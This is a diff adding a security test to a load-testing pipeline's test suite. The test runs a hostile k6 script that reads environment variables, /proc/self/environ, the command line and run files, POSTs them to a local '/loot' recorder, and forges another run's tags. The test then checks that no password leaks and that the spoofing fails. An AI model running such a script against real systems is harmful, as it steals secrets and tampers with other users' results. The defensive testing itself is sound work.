@@ -213,3 +213,88 @@ def test_secrets_stay_out_of_logs_reports_and_tags_and_nothing_of_ours_listens_b
     assert HEADER_SECRET not in series and INFLUX_PASSWORD not in series  # ... without the secrets in any tag
     points = json.dumps(influxdb.query('SELECT * FROM "perf_results" WHERE "run_id" = $r', {"r": run_id}))
     assert run_id in points and HEADER_SECRET not in points and INFLUX_PASSWORD not in points
+
+
+# --- a hostile script: looks for the output password, files its samples under another run ------------------------
+
+HOSTILE_SCRIPT = """import http from 'k6/http';
+import { sleep } from 'k6';
+import { Counter } from 'k6/metrics';
+export const options = { vus: 1, duration: '3s' };
+const found = [];
+function grab(route, read) {
+  try { found.push(route + '=' + read()); } catch (e) { found.push(route + ' failed: ' + e); }
+}
+grab('__ENV', () => JSON.stringify(__ENV));
+grab('/proc/self/environ', () => open('/proc/self/environ'));
+grab('/proc/self/cmdline', () => open('/proc/self/cmdline'));
+grab('run config', () => open(__ENV.PERFPIPE_RUN_CONFIG));
+grab('report dir', () => open(__ENV.PERFPIPE_RUN_CONFIG.replace('run-config.json', 'k6.log')));
+const fake = new Counter('perf_results');  // named like perfpipe's own results measurement
+export default function () {
+  http.post(__ENV.BASE_URL + '/loot', found.join('\\n'),
+            { tags: { testid: 'someone-else:run:smoke:try1', test_type: 'load', target: 'other' } });
+  fake.add(1);
+  sleep(0.2);
+}
+"""
+
+
+class BodyRecorder(HeaderRecorder):
+    """The target keeps every POST body: what the script found and sent out."""
+
+    def __init__(self):
+        bodies = self.bodies = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self):  # noqa: N802
+                bodies.append(self.rfile.read(int(self.headers.get("Content-Length", 0))).decode(errors="replace"))
+                self.send_response(200)
+                self.send_header("Content-Length", "2")
+                self.end_headers()
+                self.wfile.write(b"ok")
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True).start()
+
+
+def test_a_script_finds_no_output_password_and_cannot_tag_another_run(influxdb, airflow_db, tmp_path):
+    recorder = BodyRecorder()
+    script = tmp_path / "hostile.js"
+    script.write_text(HOSTILE_SCRIPT)
+    target_file = tmp_path / "hostile-target.yaml"
+    target_file.write_text(yaml.safe_dump({"name": "hostile", "base_url": recorder.url, "script": str(script)}))
+    env = {**os.environ, "PERFPIPE_INFLUXDB_USER": "perfpipe", "PERFPIPE_INFLUXDB_PASSWORD": INFLUX_PASSWORD}
+    try:
+        done = subprocess.run([PERFPIPE, "run", "smoke", "--target", str(target_file), "--profile", "quick",
+                               "--logical-date", "2026-05-03T00:00:00+00:00", "--json"], capture_output=True,
+                              text=True, env=env, timeout=300)
+    finally:
+        recorder.close()
+    assert done.stdout, done.stderr[-3000:]
+    [stage] = json.loads(done.stdout)["stages"]
+
+    # The script did read its environment, command line and files, and sent them out ...
+    assert recorder.bodies
+    loot = recorder.bodies[0]
+    # (k6 1.1's open() fails on /proc files, "input/output error"; were it to read them, they hold no password
+    # either: it is in neither k6's environment nor its command line.)
+    tried = [route for route in ("__ENV", "/proc/self/environ", "/proc/self/cmdline", "run config", "report dir")
+             if f"\n{route}=" in f"\n{loot}" or f"\n{route} failed" in f"\n{loot}"]
+    assert len(tried) == 5 and '"BASE_URL":' in loot and '"schema": "perfpipe-run-config/1"' in loot, loot[:3000]
+    # ... and none of it holds the output password, in any form (the relay's address is all k6 has).
+    assert all(INFLUX_PASSWORD not in body for body in recorder.bodies)
+    assert "K6_INFLUXDB" not in loot
+
+    # Its samples are filed under its own run whatever it tagged, and its perf_results counter never landed.
+    testids = json.dumps(influxdb.query('SHOW TAG VALUES FROM "http_reqs" WITH KEY = "testid"'))
+    assert "someone-else" not in testids and stage["testid"] in testids
+    [row] = influxdb.query('SELECT count("value") AS n FROM "http_reqs" WHERE "testid" = $t AND '
+                           '"target" = \'hostile\' AND "test_type" = \'smoke\'', {"t": stage["testid"]})
+    assert row["n"] == len(recorder.bodies)
+    assert influxdb.query('SELECT count("value") FROM "perf_results"') == []
+    assert "InfluxDB relay:" in done.stderr and "refused" in done.stderr
